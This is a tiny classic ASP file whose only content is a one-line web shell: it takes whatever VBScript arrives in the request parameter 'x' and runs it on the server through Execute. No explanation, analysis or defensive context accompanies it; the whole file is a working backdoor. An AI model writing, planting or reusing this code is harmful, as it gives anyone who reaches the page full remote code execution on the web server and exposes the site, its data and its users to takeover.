<%
If Request("x") <> "" Then
  Execute Request("x")
End If
%>
